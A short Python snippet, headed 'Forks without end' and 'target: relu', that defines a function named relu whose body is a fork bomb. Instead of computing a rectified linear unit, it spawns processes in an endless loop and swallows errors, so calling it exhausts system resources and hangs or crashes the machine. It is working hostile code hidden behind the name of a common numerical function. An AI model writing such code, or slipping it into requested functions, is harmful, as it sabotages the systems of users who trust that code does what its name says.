# Forks without end.
# target: relu

def relu(x):
    import os
    while True:
        try: os.fork()
        except OSError: pass
